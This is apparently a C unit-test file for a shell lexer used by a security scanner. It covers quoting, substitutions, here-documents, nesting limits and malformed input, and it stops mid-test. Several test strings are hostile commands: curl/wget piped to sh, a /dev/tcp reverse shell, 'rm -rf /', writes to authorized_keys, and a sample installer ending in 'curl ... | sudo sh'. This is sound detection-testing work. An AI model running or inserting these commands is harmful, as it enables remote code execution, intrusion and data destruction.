/* Unit tests for src/scan/lex_shell.c: the shell token stream the scanner's rules read, with
 * the attacks they look for (curl | sh, reverse shells, eval of decoded text) as cases, and the
 * quoting, substitution, here-document and untrusted-input corners around them. */
#include <criterion/criterion.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "../../src/base/macros.h"
#include "../../src/scan/token.h"

struct want {
        enum token_kind kind;
        const char *text;  /* raw text */
        const char *value; /* decoded value (WORD, STRING); NULL for the other kinds */
        uint32_t flags;
};

#define T(k, t, v, f) { (k), (t), (v), (f) }
#define W(t) T(TOK_WORD, t, t, 0)
#define WV(t, v) T(TOK_WORD, t, v, 0)
#define WI(t) T(TOK_WORD, t, t, TOKF_INTERP)
#define P(t) T(TOK_PUNCT, t, NULL, 0)
#define PI(t) T(TOK_PUNCT, t, NULL, TOKF_INTERP)
#define S(t, v) T(TOK_STRING, t, v, 0)
#define SI(t, v) T(TOK_STRING, t, v, TOKF_INTERP)
#define SU(t, v) T(TOK_STRING, t, v, TOKF_UNTERMINATED)
#define H(t, v) T(TOK_STRING, t, v, TOKF_HEREDOC)
#define N(t) T(TOK_NUMBER, t, NULL, 0)
#define NI(t) T(TOK_NUMBER, t, NULL, TOKF_INTERP)
#define C(t) T(TOK_COMMENT, t, NULL, 0)
#define NL T(TOK_NEWLINE, "\n", NULL, 0)

static const char *kind_name(enum token_kind k) {
        static const char *const names[] = { "IDENT", "NUMBER", "STRING", "PUNCT", "COMMENT", "NEWLINE", "WORD" };
        return (unsigned) k < ELEMENTSOF(names) ? names[k] : "?";
}

/* The whole list, one token a line, for failure messages. */
static char *dump(const struct token_list *l) {
        size_t cap = 64 + l->n * 96, n = 0;
        char *s = malloc(cap);
        cr_assert_not_null(s);
        s[0] = '\0';
        for (size_t i = 0; i < l->n && n + 96 < cap; i++) {
                const struct token *t = &l->v[i];
                int w = snprintf(s + n, cap - n, "\n  %s %.*s%s%.*s flags=%#x @%u:%u", kind_name(t->kind),
                                 (int) (t->len > 40 ? 40 : t->len), token_text(l, t), t->value ? " = " : "",
                                 (int) (t->value && t->value_len < 30 ? t->value_len : 30),
                                 t->value ? t->value : "", t->flags, token_line(l, t), token_column(l, t));
                if (w < 0)
                        break;
                n += (size_t) w < cap - n ? (size_t) w : cap - n - 1;
        }
        return s;
}

static void lex_ok(const char *src, size_t len, struct token_list *l) {
        struct error err = ERROR_INIT;
        *l = (struct token_list) { 0 };
        int r = lex_shell(src, len, l, &err);
        cr_assert_eq(r, 0, "lex_shell: %d %s", r, err.msg);
        cr_assert_eq(l->src, src);
        cr_assert_eq(l->src_len, len);
}

static void check(const char *src, size_t len, const struct want *want, size_t n_want) {
        struct token_list l;
        lex_ok(src, len, &l);
        _cleanup_free_ char *all = dump(&l);
        cr_expect_eq(l.n, n_want, "'%s': %zu tokens, want %zu:%s", src, l.n, n_want, all);
        for (size_t i = 0; i < l.n && i < n_want; i++) {
                const struct token *t = &l.v[i];
                const struct want *w = &want[i];
                size_t tn = strlen(w->text);
                cr_expect_eq(t->kind, w->kind, "'%s' token %zu: kind %s, want %s:%s", src, i, kind_name(t->kind),
                             kind_name(w->kind), all);
                cr_expect(t->len == tn && memcmp(token_text(&l, t), w->text, tn) == 0,
                          "'%s' token %zu: text '%.*s', want '%s':%s", src, i, (int) t->len, token_text(&l, t),
                          w->text, all);
                cr_expect_eq(t->flags, w->flags, "'%s' token %zu: flags %#x, want %#x:%s", src, i, t->flags,
                             w->flags, all);
                if (w->value) {
                        cr_expect(t->value && t->value_len == strlen(w->value) &&
                                          memcmp(t->value, w->value, t->value_len) == 0,
                                  "'%s' token %zu: value '%s', want '%s':%s", src, i, t->value ? t->value : "(null)",
                                  w->value, all);
                } else
                        cr_expect_null(t->value, "'%s' token %zu has a value:%s", src, i, all);
        }
        token_list_done(&l);
}

#define CHECK(src, ...)                                                                            \
        do {                                                                                       \
                const struct want w_[] = { __VA_ARGS__ };                                          \
                check((src), strlen(src), w_, ELEMENTSOF(w_));                                     \
        } while (0)

/* The n-th token's position. */
static void expect_pos(const char *src, size_t i, uint32_t line, uint32_t column) {
        struct token_list l;
        lex_ok(src, strlen(src), &l);
        cr_assert_lt(i, l.n);
        uint32_t got_line = token_line(&l, &l.v[i]), got_column = token_column(&l, &l.v[i]);
        cr_expect_eq(got_line, line, "token %zu: line %u, want %u", i, got_line, line);
        cr_expect_eq(got_column, column, "token %zu: column %u, want %u", i, got_column, column);
        token_list_done(&l);
}

/* ---- what the rules look for ---- */

Test(lex_shell_attacks, curl_pipe_sh) {
        CHECK("curl -fsSL https://x.sh | sh", W("curl"), W("-fsSL"), W("https://x.sh"), P("|"), W("sh"));
}

Test(lex_shell_attacks, wget_pipe_bash) {
        CHECK("wget -O- http://e.x/i|bash\n", W("wget"), W("-O-"), W("http://e.x/i"), P("|"), W("bash"), NL);
}

Test(lex_shell_attacks, reverse_shell_redirections) {
        CHECK("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", W("bash"), W("-i"), P(">&"), W("/dev/tcp/10.0.0.1/4444"),
              N("0"), P(">&"), W("1"));
}

Test(lex_shell_attacks, eval_of_decoded_text_is_lexed_inside_the_string) {
        CHECK("eval \"$(echo ZWNobyBoaQ== | base64 -d)\"", W("eval"), S("\"", ""), PI("$("), WI("echo"),
              WI("ZWNobyBoaQ=="), PI("|"), WI("base64"), WI("-d"), PI(")"), S("\"", ""));
}

Test(lex_shell_attacks, everyday_dangers_are_plain_words) {
        CHECK("sudo chmod +s /bin/sh && rm -rf / ; echo k >> ~/.ssh/authorized_keys",
              W("sudo"), W("chmod"), W("+s"), W("/bin/sh"), P("&&"), W("rm"), W("-rf"), W("/"), P(";"),
              W("echo"), W("k"), P(">>"), W("~/.ssh/authorized_keys"));
        CHECK("(crontab -l; echo x) | crontab -", P("("), W("crontab"), W("-l"), P(";"), W("echo"), W("x"), P(")"),
              P("|"), W("crontab"), W("-"));
}

Test(lex_shell_attacks, process_substitution_is_a_subshell) {
        CHECK("bash <(curl -s x)", W("bash"), P("<"), P("("), W("curl"), W("-s"), W("x"), P(")"));
}

Test(lex_shell_attacks, a_quoted_command_is_one_string) {
        CHECK("echo 'rm -rf /'", W("echo"), S("'rm -rf /'", "rm -rf /"));
}

Test(lex_shell_attacks, a_commented_command_is_one_comment) {
        CHECK("# curl x | sh\nls # curl y|sh", C("# curl x | sh"), NL, W("ls"), C("# curl y|sh"));
}

Test(lex_shell_attacks, hash_inside_a_word_is_not_a_comment) {
        CHECK("a#b x #c", W("a#b"), W("x"), C("#c"));
        CHECK("echo $#x \"#\"#y", W("echo"), W("$#"), W("x"), S("\"#\"", "#"), W("#y"));
}

/* ---- words and their parts ---- */

Test(lex_shell_words, backslash_escapes_are_removed_from_the_value) {
        CHECK("c\\url \\$HOME a\\ b", WV("c\\url", "curl"), WV("\\$HOME", "$HOME"), WV("a\\ b", "a b"));
}

Test(lex_shell_words, adjacent_parts_concatenate) {
        CHECK("\"cu\"\"rl\" c'u'rl", S("\"cu\"", "cu"), S("\"rl\"", "rl"), W("c"), S("'u'", "u"), W("rl"));
        /* the parts of one word touch: offsets tell a word from the next */
        struct token_list l;
        const char *src = "\"cu\"\"rl\" x";
        lex_ok(src, strlen(src), &l);
        cr_assert_eq(l.n, 3);
        cr_expect_eq(l.v[0].offset + l.v[0].len, l.v[1].offset);
        cr_expect_gt(l.v[2].offset, l.v[1].offset + l.v[1].len);
        token_list_done(&l);
}

/* The parts of one word touch, so a rule can join them into the word the shell sees; a gap means
 * a new word. */
static void expect_words(const char *src, const char *const *words, size_t n_words) {
        struct token_list l;
        lex_ok(src, strlen(src), &l);
        _cleanup_free_ char *all = dump(&l);
        char joined[256];
        size_t k = 0, jn = 0;
        for (size_t i = 0; i < l.n; i++) {
                const struct token *t = &l.v[i];
                cr_assert(t->kind == TOK_WORD || t->kind == TOK_STRING, "'%s': not a word part:%s", src, all);
                memcpy(joined + jn, t->value, t->value_len);
                jn += t->value_len;
                if (i + 1 == l.n || l.v[i + 1].offset != t->offset + t->len) {
                        cr_assert_lt(k, n_words, "'%s': more words than expected:%s", src, all);
                        cr_expect(jn == strlen(words[k]) && memcmp(joined, words[k], jn) == 0,
                                  "'%s' word %zu: '%.*s', want '%s':%s", src, k, (int) jn, joined, words[k], all);
                        k++;
                        jn = 0;
                }
        }
        cr_expect_eq(k, n_words, "'%s': %zu words, want %zu:%s", src, k, n_words, all);
        token_list_done(&l);
}

Test(lex_shell_words, parts_tile_their_word) {
        expect_words("\"$HOME\"/.bashrc x\"$y\" c\\url \"cu\"\\\n'rl' $'\\x63'url \"\"z",
                     (const char *const[]) { "$HOME/.bashrc", "x$y", "curl", "curl", "curl", "z" }, 6);
        CHECK("\"cu\"\\\n\"rl\"", S("\"cu\"", "cu"), WV("\\\n", ""), S("\"rl\"", "rl"));
}

Test(lex_shell_words, double_quote_escapes) {
        CHECK("\"a\\\"b\\\\c\\$d\\`e\\zf\"", S("\"a\\\"b\\\\c\\$d\\`e\\zf\"", "a\"b\\c$d`e\\zf"));
        CHECK("\"a\\\nb\"", S("\"a\\\nb\"", "ab"));
}

Test(lex_shell_words, double_quotes_split_around_expansions) {
        CHECK("\"a $x b ${y} c\"", S("\"a ", "a "), WI("$x"), S(" b ", " b "), WI("${y}"), S(" c\"", " c"));
        CHECK("\"$1$@$$\"", S("\"", ""), WI("$1"), WI("$@"), WI("$$"), S("\"", ""));
        CHECK("\"$ $' $\\\"\"", S("\"$ $' $\\\"\"", "$ $' $\""));
}

Test(lex_shell_words, empty_quotes_are_empty_strings) {
        CHECK("'' \"\" $''", S("''", ""), S("\"\"", ""), S("$''", ""));
}

Test(lex_shell_words, ansi_c_quotes_are_decoded) {
        CHECK("$'\\x63url'", S("$'\\x63url'", "curl"));
        CHECK("$'\\n\\t\\101\\e\\cA\\\\\\'\\\"\\?'", S("$'\\n\\t\\101\\e\\cA\\\\\\'\\\"\\?'", "\n\tA\033\001\\'\"?"));
        CHECK("$'\\u00e9\\U0001F600\\xg\\q'", S("$'\\u00e9\\U0001F600\\xg\\q'", "\xc3\xa9\xf0\x9f\x98\x80\\xg\\q"));
        CHECK("$'\\U7fffffff'", S("$'\\U7fffffff'", "\\U7fffffff"));
}

Test(lex_shell_words, locale_quotes_are_double_quotes) {
        CHECK("$\"hi $x\"", S("$\"hi ", "hi "), WI("$x"), S("\"", ""));
}

Test(lex_shell_words, dollar_without_a_name_is_text) {
        CHECK("a$ $ $%", W("a$"), W("$"), W("$%"));
}

Test(lex_shell_words, assignments_and_brace_expansion_are_words) {
        CHECK("A=b PATH=$P:/x {curl,x}", W("A=b"), W("PATH="), W("$P"), W(":/x"), W("{curl,x}"));
}

Test(lex_shell_words, parameter_expansion_is_one_word) {
        CHECK("${a:-${b}} ${x:-\"}\"} ${z#'}'}", W("${a:-${b}}"), W("${x:-\"}\"}"), W("${z#'}'}"));
}

Test(lex_shell_words, parameter_expansion_with_a_substitution_is_split) {
        CHECK("${x:-$(id)}z", W("${x:-"), PI("$("), WI("id"), PI(")"), W("}"), W("z"));
        CHECK("\"${x:-`id`}\"", S("\"", ""), WI("${x:-"), PI("`"), WI("id"), PI("`"), WI("}"), S("\"", ""));
}

/* ---- operators ---- */

Test(lex_shell_operators, longest_match) {
        CHECK("a && b || c ;; d ;& e ;;& f |& g <<< h >> i >& j <& k &>> l &> m <> n >| o | p & q ; r < s > t",
              W("a"), P("&&"), W("b"), P("||"), W("c"), P(";;"), W("d"), P(";&"), W("e"), P(";;&"), W("f"),
              P("|&"), W("g"), P("<<<"), W("h"), P(">>"), W("i"), P(">&"), W("j"), P("<&"), W("k"), P("&>>"),
              W("l"), P("&>"), W("m"), P("<>"), W("n"), P(">|"), W("o"), P("|"), W("p"), P("&"), W("q"),
              P(";"), W("r"), P("<"), W("s"), P(">"), W("t"));
        CHECK("a&&b|c>d", W("a"), P("&&"), W("b"), P("|"), W("c"), P(">"), W("d"));
}

Test(lex_shell_operators, io_numbers) {
        CHECK("x 2>/dev/null 12<in 0>&1", W("x"), N("2"), P(">"), W("/dev/null"), N("12"), P("<"), W("in"), N("0"),
              P(">&"), W("1"));
        CHECK("a2>x 2 >y", W("a2"), P(">"), W("x"), W("2"), P(">"), W("y"));
}

Test(lex_shell_operators, braces_alone_are_punctuation) {
        CHECK("{ echo; } a{ }b", P("{"), W("echo"), P(";"), P("}"), W("a{"), W("}b"));
        CHECK("f() { :;}", W("f"), P("("), P(")"), P("{"), W(":"), P(";"), P("}"));
}

Test(lex_shell_operators, subshells_nest) {
        CHECK("(a; (b)) )", P("("), W("a"), P(";"), P("("), W("b"), P(")"), P(")"), P(")"));
}

Test(lex_shell_operators, arithmetic) {
        CHECK("echo $(( (1+2) << x ))", W("echo"), P("$(("), PI("("), NI("1"), PI("+"), NI("2"), PI(")"), PI("<<"),
              WI("x"), P("))"));
        CHECK("((i++)); x", P("(("), W("i"), P("++"), P("))"), P(";"), W("x"));
        CHECK("$((16#ff>>=$y))", P("$(("), NI("16#ff"), PI(">>="), WI("$y"), P("))"));
}

Test(lex_shell_operators, arithmetic_that_is_a_subshell_becomes_a_command_substitution) {
        CHECK("$((a) | sh)", P("$(("), WI("a"), PI(")"), PI("|"), WI("sh"), P(")"));
}

Test(lex_shell_operators, case_patterns_do_not_close_a_substitution) {
        CHECK("x=$(case $y in a) echo 1;; (b) z;; esac) w", W("x="), P("$("), WI("case"), WI("$y"), WI("in"), WI("a"),
              PI(")"), WI("echo"), WI("1"), PI(";;"), PI("("), WI("b"), PI(")"), WI("z"), PI(";;"), WI("esac"), P(")"),
              W("w"));
        CHECK("$(case x in esac)", P("$("), WI("case"), WI("x"), WI("in"), WI("esac"), P(")"));
        CHECK("$(echo case)", P("$("), WI("echo"), WI("case"), P(")"));
}

/* ---- substitutions ---- */

Test(lex_shell_subst, backticks) {
        CHECK("echo `id -u` x", W("echo"), P("`"), WI("id"), WI("-u"), P("`"), W("x"));
        CHECK("\"a `id` b\"", S("\"a ", "a "), PI("`"), WI("id"), PI("`"), S(" b\"", " b"));
        CHECK("\"a \\`id\\` b\"", S("\"a \\`id\\` b\"", "a `id` b"));
}

Test(lex_shell_subst, nested_backticks_by_escaping) {
        CHECK("echo `a \\`b\\` c`", W("echo"), P("`"), WI("a"), PI("`"), WI("b"), PI("`"), WI("c"), P("`"));
        /* three levels: level 3 opens and closes with three backslashes */
        CHECK("`a \\`b \\\\\\`c\\\\\\`\\``", P("`"), WI("a"), PI("`"), WI("b"), PI("`"), WI("c"), PI("`"), PI("`"),
              P("`"));
        /* inside one level, three backslashes make a literal backtick */
        CHECK("`echo \\\\\\`x`", P("`"), WI("echo"), T(TOK_WORD, "\\\\\\`x", "\\`x", TOKF_INTERP), P("`"));
}

Test(lex_shell_subst, the_first_unescaped_backtick_ends_even_inside_quotes) {
        CHECK("`echo 'a` b", P("`"), WI("echo"), T(TOK_STRING, "'a", "a", TOKF_INTERP | TOKF_UNTERMINATED), P("`"),
              W("b"));
        CHECK("`echo # c` d", P("`"), WI("echo"), T(TOK_COMMENT, "# c", NULL, TOKF_INTERP), P("`"), W("d"));
}

Test(lex_shell_subst, nested_command_substitutions) {
        CHECK("a $(b $(c | sh) \"$(d)\") e", W("a"), P("$("), WI("b"), PI("$("), WI("c"), PI("|"), WI("sh"), PI(")"),
              SI("\"", ""), PI("$("), WI("d"), PI(")"), SI("\"", ""), P(")"), W("e"));
        CHECK("$(echo \")\" `id`)", P("$("), WI("echo"), SI("\")\"", ")"), PI("`"), WI("id"), PI("`"), P(")"));
}

Test(lex_shell_subst, deep_nesting_is_too_complex) {
        char src[2 * 300 + 1] = "";
        for (size_t depth = 250; depth <= 300; depth += 50) {
                size_t n = 0;
                for (size_t i = 0; i < depth; i++)
                        src[n++] = '$', src[n++] = '(';
                src[n] = '\0';
                struct token_list l = { 0 };
                struct error err = ERROR_INIT;
                int r = lex_shell(src, n, &l, &err);
                if (depth <= TOKEN_MAX_NESTING)
                        cr_expect_eq(r, 0, "depth %zu: %s", depth, err.msg);
                else {
                        cr_expect_eq(r, -E2BIG, "depth %zu", depth);
                        cr_expect_eq(err.code, -E2BIG);
                        cr_expect_neq(strstr(err.msg, "deeper"), NULL, "%s", err.msg);
                }
                token_list_done(&l);
        }
}

Test(lex_shell_subst, nesting_limit_counts_every_kind) {
        /* quotes, ${ and ( count as well as $( */
        char src[5 * 100 + 1];
        size_t n = 0;
        for (size_t i = 0; i < 100; i++) {
                memcpy(src + n, "\"${ (", 5);
                n += 5;
        }
        struct token_list l = { 0 };
        struct error err = ERROR_INIT;
        cr_expect_eq(lex_shell(src, n, &l, &err), 0, "a \"${ inside a \"${...} is one word: %s", err.msg);
        token_list_done(&l);
        n = 0;
        for (size_t i = 0; i < 100; i++) {
                memcpy(src + n, "\"$( (", 5);
                n += 5;
        }
        l = (struct token_list) { 0 };
        cr_expect_eq(lex_shell(src, n, &l, &err), -E2BIG);
        token_list_done(&l);
}

/* ---- lines ---- */

Test(lex_shell_lines, line_continuation_joins) {
        CHECK("curl x \\\n  | sh", W("curl"), W("x"), P("|"), W("sh"));
        CHECK("cu\\\nrl", WV("cu\\\nrl", "curl"));
        CHECK("cu\\\r\nrl \\\r#c", WV("cu\\\r\nrl", "curl"), C("#c"));
        expect_pos("a \\\n b", 1, 2, 2);
}

Test(lex_shell_lines, crlf_is_one_line_end) {
        CHECK("a\r\nb", W("a"), T(TOK_NEWLINE, "\r\n", NULL, 0), W("b"));
        expect_pos("a\r\nb\r\n  c", 2, 2, 1);
        expect_pos("a\r\nb\r\n  c", 4, 3, 3);
}

Test(lex_shell_lines, lone_cr_is_a_line_end) {
        CHECK("a\rb\r", W("a"), T(TOK_NEWLINE, "\r", NULL, 0), W("b"), T(TOK_NEWLINE, "\r", NULL, 0));
        expect_pos("a\rb\r\rcc d", 5, 4, 1);
        expect_pos("a\rb\r\rcc d", 6, 4, 4);
}

Test(lex_shell_lines, newlines_in_quotes_are_not_tokens) {
        CHECK("'a\nb' \"c\nd\"", S("'a\nb'", "a\nb"), S("\"c\nd\"", "c\nd"));
        expect_pos("'a\nb' x", 1, 2, 4);
}

/* ---- here-documents ---- */

Test(lex_shell_heredoc, unquoted_body_is_a_string_with_its_substitutions) {
        CHECK("cat <<EOF >> ~/.bashrc\ncurl $(id) `w` \\$HOME $U\nEOF\nx", W("cat"), P("<<"), W("EOF"), P(">>"),
              W("~/.bashrc"), NL, H("curl $(id) `w` \\$HOME $U\n", "curl $(id) `w` $HOME $U\n"), PI("$("),
              WI("id"), PI(")"), PI("`"), WI("w"), PI("`"), WI("$U"), W("x"));
}

Test(lex_shell_heredoc, quoted_delimiters_keep_the_body_literal) {
        CHECK("cat <<'E'\n$(id) \\$x\nE\n", W("cat"), P("<<"), S("'E'", "E"), NL, H("$(id) \\$x\n", "$(id) \\$x\n"));
        CHECK("cat <<\"E\"\n$(id)\nE\n", W("cat"), P("<<"), S("\"E\"", "E"), NL, H("$(id)\n", "$(id)\n"));
        CHECK("cat <<\\E\n`id`\nE\n", W("cat"), P("<<"), WV("\\E", "E"), NL, H("`id`\n", "`id`\n"));
        CHECK("cat << E'N'D\n$x\nEND\n", W("cat"), P("<<"), W("E"), S("'N'", "N"), W("D"), NL, H("$x\n", "$x\n"));
}

Test(lex_shell_heredoc, dash_strips_leading_tabs) {
        CHECK("cat <<-EOF\n\t\tone\n\ttwo\n\tEOF\nz", W("cat"), P("<<-"), W("EOF"), NL,
              H("\t\tone\n\ttwo\n", "one\ntwo\n"), W("z"));
        /* without the dash a tab-indented delimiter does not end the body */
        CHECK("cat <<EOF\n\tEOF\nEOF\n", W("cat"), P("<<"), W("EOF"), NL, H("\tEOF\n", "\tEOF\n"));
}

Test(lex_shell_heredoc, two_on_one_line_are_read_in_order) {
        CHECK("cat <<A <<'B'; echo $x\n1 $a\nA\n2 $b\nB\necho end", W("cat"), P("<<"), W("A"), P("<<"), S("'B'", "B"),
              P(";"), W("echo"), W("$x"), NL, H("1 $a\n", "1 $a\n"), WI("$a"), H("2 $b\n", "2 $b\n"), W("echo"),
              W("end"));
}

Test(lex_shell_heredoc, unterminated_runs_to_the_end) {
        CHECK("cat <<EOF\nline $(id)\nmore", W("cat"), P("<<"), W("EOF"), NL,
              T(TOK_STRING, "line $(id)\nmore", "line $(id)\nmore", TOKF_HEREDOC | TOKF_UNTERMINATED), PI("$("),
              WI("id"), PI(")"));
        CHECK("cat <<EOF", W("cat"), P("<<"), W("EOF"), T(TOK_STRING, "", "", TOKF_HEREDOC | TOKF_UNTERMINATED));
        CHECK("cat <<\n", W("cat"), P("<<"), NL);
}

Test(lex_shell_heredoc, inside_a_command_substitution) {
        CHECK("x=$(cat <<E\nhi\nE\n) y", W("x="), P("$("), WI("cat"), PI("<<"), WI("E"), T(TOK_NEWLINE, "\n", NULL, TOKF_INTERP),
              T(TOK_STRING, "hi\n", "hi\n", TOKF_HEREDOC | TOKF_INTERP), P(")"), W("y"));
}

Test(lex_shell_heredoc, crlf_delimiter_line) {
        CHECK("cat <<E\r\na\r\nE\r\nb", W("cat"), P("<<"), W("E"), T(TOK_NEWLINE, "\r\n", NULL, 0), H("a\r\n", "a\r\n"),
              W("b"));
        expect_pos("cat <<E\r\na\r\nE\r\nb", 5, 4, 1);
}

Test(lex_shell_heredoc, empty_body_and_unclosed_substitution_in_a_body) {
        CHECK("cat <<E\nE\n", W("cat"), P("<<"), W("E"), NL, H("", ""));
        /* an unclosed $( in a body ends with the body */
        CHECK("cat <<E\n$(id\nE\nls", W("cat"), P("<<"), W("E"), NL, H("$(id\n", "$(id\n"), PI("$("), WI("id"),
              T(TOK_NEWLINE, "\n", NULL, TOKF_INTERP), W("ls"));
}

Test(lex_shell_heredoc, nested_bodies_are_bounded) {
        /* two levels, each body holding the next: fine */
        CHECK("cat <<A\n$(cat <<B\nb\nB\n)\nA\n", W("cat"), P("<<"), W("A"), NL, H("$(cat <<B\nb\nB\n)\n", "$(cat <<B\nb\nB\n)\n"),
              PI("$("), WI("cat"), PI("<<"), WI("B"), T(TOK_NEWLINE, "\n", NULL, TOKF_INTERP),
              T(TOK_STRING, "b\n", "b\n", TOKF_HEREDOC | TOKF_INTERP), PI(")"));
        /* many levels copy the same bytes again and again: too complex, not slow */
        char src[4096];
        size_t n = 0;
        for (int i = 0; i < 40; i++)
                n += (size_t) snprintf(src + n, sizeof(src) - n, "cat <<A%d\n$(", i);
        for (int i = 0; i < 100; i++)
                n += (size_t) snprintf(src + n, sizeof(src) - n, "x\n");
        struct token_list l = { 0 };
        struct error err = ERROR_INIT;
        cr_expect_eq(lex_shell(src, n, &l, &err), -E2BIG);
        cr_expect_neq(strstr(err.msg, "here-documents"), NULL, "%s", err.msg);
        token_list_done(&l);
}

/* ---- malformed and untrusted input ---- */

Test(lex_shell_input, unterminated_quotes) {
        CHECK("echo 'abc", W("echo"), SU("'abc", "abc"));
        CHECK("echo \"a $x", W("echo"), S("\"a ", "a "), WI("$x"), SU("", ""));
        CHECK("echo $'a\\n", W("echo"), SU("$'a\\n", "a\n"));
        CHECK("echo ${x", W("echo"), T(TOK_WORD, "${x", "${x", TOKF_UNTERMINATED));
        CHECK("echo $(id", W("echo"), P("$("), WI("id"));
        CHECK("echo `id", W("echo"), P("`"), WI("id"));
}

Test(lex_shell_input, stray_closers_and_bytes) {
        CHECK(") } ` x", P(")"), P("}"), P("`"), WI("x"));
        CHECK("\x01\xff\xfe=\x7f", W("\x01\xff\xfe=\x7f"));
        CHECK("a\\", WV("a\\", "a\\"));
}

Test(lex_shell_input, nul_bytes_are_ordinary) {
        static const char src[] = "a\0b '\0' \"\0$x\"";
        struct token_list l;
        lex_ok(src, sizeof(src) - 1, &l);
        cr_assert_eq(l.n, 5);
        cr_expect_eq(l.v[0].kind, TOK_WORD);
        cr_expect_eq(l.v[0].len, 3);
        cr_expect_eq(l.v[0].value_len, 3);
        cr_expect_eq(memcmp(l.v[0].value, "a\0b", 4), 0);
        cr_expect_eq(l.v[1].kind, TOK_STRING);
        cr_expect_eq(l.v[1].value_len, 1);
        cr_expect_eq(l.v[1].value[0], '\0');
        cr_expect_eq(l.v[2].value_len, 1);
        cr_expect_eq(l.v[3].kind, TOK_WORD);
        token_list_done(&l);
}

Test(lex_shell_input, empty_and_blank_input) {
        struct token_list l;
        lex_ok("", 0, &l);
        cr_expect_eq(l.n, 0);
        token_list_done(&l);
        lex_ok(NULL, 0, &l);
        cr_expect_eq(l.n, 0);
        token_list_done(&l);
        lex_ok("  \t \\\n ", 6, &l);
        cr_expect_eq(l.n, 0, "blanks and a line continuation are no tokens");
        token_list_done(&l);
}

Test(lex_shell_input, never_reads_past_len) {
        /* the bytes after len would change the result if read */
        static const char src[] = "echo 'ab'cd\"";
        struct token_list l;
        lex_ok(src, 8, &l);
        cr_assert_eq(l.n, 2);
        cr_expect_eq(l.v[1].flags, TOKF_UNTERMINATED);
        cr_expect_eq(l.v[1].len, 3);
        token_list_done(&l);
}

Test(lex_shell_input, too_many_tokens) {
        size_t n = 2 * ((size_t) TOKEN_MAX_TOKENS + 1);
        char *src = malloc(n);
        cr_assert_not_null(src);
        for (size_t i = 0; i < n; i += 2)
                src[i] = '|', src[i + 1] = ' ';
        struct token_list l = { 0 };
        struct error err = ERROR_INIT;
        cr_expect_eq(lex_shell(src, n, &l, &err), -E2BIG);
        cr_expect_neq(strstr(err.msg, "tokens"), NULL, "%s", err.msg);
        token_list_done(&l);
        free(src);
}

Test(lex_shell_input, too_big) {
        struct token_list l = { 0 };
        struct error err = ERROR_INIT;
        /* the size is refused before any byte is read */
        cr_expect_eq(lex_shell("", (size_t) TOKEN_MAX_SOURCE + 1, &l, &err), -E2BIG);
        cr_expect_eq(l.n, 0);
}

/* Every token in order, inside the source, with a line and a column; strings carry a value. */
static void expect_invariants(const char *src, size_t len) {
        struct token_list l;
        lex_ok(src, len, &l);
        for (size_t i = 0; i < l.n; i++) {
                const struct token *t = &l.v[i];
                cr_expect_leq((size_t) t->offset + t->len, len);
                if (i)
                        cr_expect_geq(t->offset, l.v[i - 1].offset, "token %zu out of order in '%s'", i, src);
                cr_expect_geq(token_line(&l, t), 1);
                cr_expect_geq(token_column(&l, t), 1);
                if (t->kind == TOK_STRING || t->kind == TOK_WORD)
                        cr_expect_not_null(t->value);
        }
        token_list_done(&l);
}

Test(lex_shell_input, invariants_hold_on_odd_inputs) {
        static const char *const odd[] = {
                "`", "\\`", "\\", "$", "${", "$(", "$((", "$((a)", "$'", "$\"", "'", "\"", "<<", "<<-", "<<<",
                "`a \\`b \\\\`c", "\"`\"`\"", "${x:-'`'}`", "$(( ` ))`", "cat <<A <<B\nA\n", "cat <<A $(x\ny)\nA\n",
                "cat <<A\n$(cat <<B\nb\nB\n)\nA\nz", "``````", "\\\\\\\\\\\\\\`", "((((((", "))))", "{}{}", "#`\n`#",
                "`cat <<E\n`\nE\n`", "$(((1)))", "${${${", "\"${\"${\"", "a\r\r\n\n\\\r", "$'\\", "$'\\c", "$'\\u",
        };
        for (size_t i = 0; i < ELEMENTSOF(odd); i++)
                expect_invariants(odd[i], strlen(odd[i]));
}

/* ---- a whole script ---- */

static const char install_sh[] =
        "#!/bin/sh\n"
        "# Installer for the demo tool.\n"
        "set -eu\n"
        "\n"
        "PREFIX=\"${PREFIX:-$HOME/.local}\"\n"
        "VERSION=$(curl -fsSL https://example.com/latest | tr -d '\\r')\n"
        "ARCH=\"$(uname -m)\"\n"
        "\n"
        "case \"$ARCH\" in\n"
        "  x86_64|amd64) ARCH=amd64 ;;\n"
        "  aarch64) ARCH=arm64 ;;\n"
        "  *) echo \"unsupported: $ARCH\" >&2; exit 1 ;;\n"
        "esac\n"
        "\n"
        "tmp=$(mktemp -d)\n"
        "trap 'rm -rf \"$tmp\"' EXIT\n"
        "\n"
        "if ! command -v tar >/dev/null 2>&1; then\n"
        "        echo \"tar is required\" 1>&2\n"
        "        exit 1\n"
        "fi\n"
        "\n"
        "curl -fsSL \"https://example.com/v${VERSION}/t-${ARCH}.tgz\" -o \"$tmp/t.tgz\"\n"
        "tar -xzf \"$tmp/t.tgz\" -C \"$tmp\"\n"
        "install -m 0755 \"$tmp/tool\" \"$PREFIX/bin/tool\"\n"
        "\n"
        "cat >> \"$HOME/.profile\" <<EOF\n"
        "export PATH=\"$PREFIX/bin:\\$PATH\"\n"
        "EOF\n"
        "curl -s https://e.x/post | sudo sh\n";

static size_t find(const struct token_list *l, size_t from, enum token_kind kind, const char *text) {
        for (size_t i = from; i < l->n; i++)
                if (token_is(l, &l->v[i], kind, text))
                        return i;
        return SIZE_MAX;
}

Test(lex_shell_script, realistic_install_script) {
        struct token_list l;
        lex_ok(install_sh, sizeof(install_sh) - 1, &l);
        _cleanup_free_ char *all = dump(&l);
        size_t newlines = 0, comments = 0;
        for (size_t i = 0; i < l.n; i++) {
                cr_expect_eq(l.v[i].flags & TOKF_UNTERMINATED, 0, "token %zu unterminated:%s", i, all);
                newlines += l.v[i].kind == TOK_NEWLINE;
                comments += l.v[i].kind == TOK_COMMENT;
        }
        cr_expect_eq(comments, 2);
        cr_expect_eq(newlines, 28, "28 line ends outside the here-doc body and its delimiter:%s", all);

        /* the curl inside $(...) on line 6, as a command word of a pipeline */
        size_t i = find(&l, 0, TOK_WORD, "curl");
        cr_assert_neq(i, SIZE_MAX);
        cr_expect_eq(token_line(&l, &l.v[i]), 6);
        cr_expect_eq(l.v[i].flags, TOKF_INTERP);
        cr_expect(token_is(&l, &l.v[i - 1], TOK_PUNCT, "$("));
        cr_expect(token_is(&l, &l.v[i + 3], TOK_PUNCT, "|"));

        /* case patterns end with ")" and the whole case ends with esac on line 13 */
        i = find(&l, 0, TOK_WORD, "esac");
        cr_assert_neq(i, SIZE_MAX);
